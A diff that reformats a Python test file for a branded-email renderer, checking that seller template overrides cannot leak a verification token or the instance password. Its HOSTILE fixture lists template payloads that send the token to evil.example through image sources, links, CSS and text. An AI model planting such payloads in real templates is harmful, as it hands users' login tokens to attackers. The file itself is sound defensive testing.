@@ -38,8 +38,10 @@ def test_a_sellers_mail_comes_in_its_name_with_replies_to_its_support_address(se
     assert message["From"] == "Acme Cloud <no-reply@portal.example>"
     assert message["Reply-To"] == "support@acme.example"
     verified = Brand(organization_id=7, platform_name="Acme Cloud", sender_address="hello@acme.example")
-    assert render("password_changed", "x@example.com", {"username": "x"}, verified)["From"] == \
-        "Acme Cloud <hello@acme.example>"
+    assert (
+        render("password_changed", "x@example.com", {"username": "x"}, verified)["From"]
+        == "Acme Cloud <hello@acme.example>"
+    )
 
 
 def _override(html: str = "", text: str = "", subject: str = "") -> Brand:
@@ -57,13 +59,15 @@ def test_an_override_may_place_the_link_as_a_links_href_or_on_its_own() -> None:
 
 
 HOSTILE = {
-    "html": ['<img src="https://evil.example/?t={{ link }}">',
-             '<a href="https://evil.example/?t={{ link }}">x</a>',
-             '<a href="{{ link|urlencode }}x">x</a>',
-             '<a title="{{ link }}" href="https://evil.example/">x</a>',
-             '<!-- {{ link }} -->',
-             '<style>body{background:url({{ link }})}</style><p>x</p>',
-             'https://evil.example/?t={{ link }}'],
+    "html": [
+        '<img src="https://evil.example/?t={{ link }}">',
+        '<a href="https://evil.example/?t={{ link }}">x</a>',
+        '<a href="{{ link|urlencode }}x">x</a>',
+        '<a title="{{ link }}" href="https://evil.example/">x</a>',
+        "<!-- {{ link }} -->",
+        "<style>body{background:url({{ link }})}</style><p>x</p>",
+        "https://evil.example/?t={{ link }}",
+    ],
     "text": ["Go to https://evil.example/?t={{ link }}", "{{ link }}#evil"],
     "subject": ["Your link {{ link }}"],
 }
@@ -83,8 +87,13 @@ def test_an_override_that_would_carry_the_token_elsewhere_is_refused_or_neutrali
 
 def test_the_token_never_enters_the_sellers_template() -> None:
     # Whatever a template does with the variable, it only ever sees a random marker, never the token.
-    message = render("verify_email", "x@example.com", CONTEXT,
-                     _override(text="{{ link[10:] }} {{ link|reverse|join }} {{ link }}"), links={"link": LINK})
+    message = render(
+        "verify_email",
+        "x@example.com",
+        CONTEXT,
+        _override(text="{{ link[10:] }} {{ link|reverse|join }} {{ link }}"),
+        links={"link": LINK},
+    )
     assert text_of(message).count("the-real-token") == 1
 
 
@@ -97,9 +106,16 @@ def test_an_override_that_runs_too_long_is_refused_at_save_and_skipped_at_send()
 
 def test_the_welcome_mail_never_carries_the_instance_password() -> None:
     assert override_problem("{{ admin_password }}", "text")  # not even available to a seller's template
-    message = render("welcome", "x@example.com", {"url": "https://x.example", "subdomain": "x",
-                                                  "admin_email": "x@example.com",
-                                                  "dashboard_url": "https://portal.test/dashboard"})
+    message = render(
+        "welcome",
+        "x@example.com",
+        {
+            "url": "https://x.example",
+            "subdomain": "x",
+            "admin_email": "x@example.com",
+            "dashboard_url": "https://portal.test/dashboard",
+        },
+    )
     assert "password: shown once on your dashboard" in text_of(message)
 
 
